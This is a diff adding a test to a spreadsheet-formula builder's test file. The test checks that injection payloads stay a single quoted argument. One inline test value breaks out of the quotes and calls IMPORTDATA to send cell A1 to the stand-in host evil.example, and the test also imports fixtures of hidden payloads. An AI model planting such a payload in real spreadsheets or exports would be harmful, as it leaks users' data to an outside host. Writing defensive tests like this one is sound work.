@@ -10,6 +10,7 @@ import {
   sharedPartners,
   technologiesOf,
 } from '../../../../shared/panel/explore/formulas';
+import { FORMULA_PAYLOADS, HIDDEN_PAYLOADS } from '../../../fakes/formula-payloads';
 
 const ANYWHERE = { country: '', industry: '' };
 
@@ -55,6 +56,14 @@ it.each([
 ])('the formula for %s is one that its function accepts', (_what, formula) => {
   expect(argumentsOf(formula).isBlank).toBe(false);
 });
+
+it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.example/?"&A1)&("'])(
+  '%j stays one argument of one call',
+  (payload) => {
+    const formula = toFormulaText(technologiesOf(payload));
+    expect(readFormulaCall(formula)?.args[0]).toEqual({ is: 'value', value: payload });
+  },
+);
 
 it('names with quotes, commas and semicolons arrive as they are', () => {
   const { text, options } = argumentsOf(
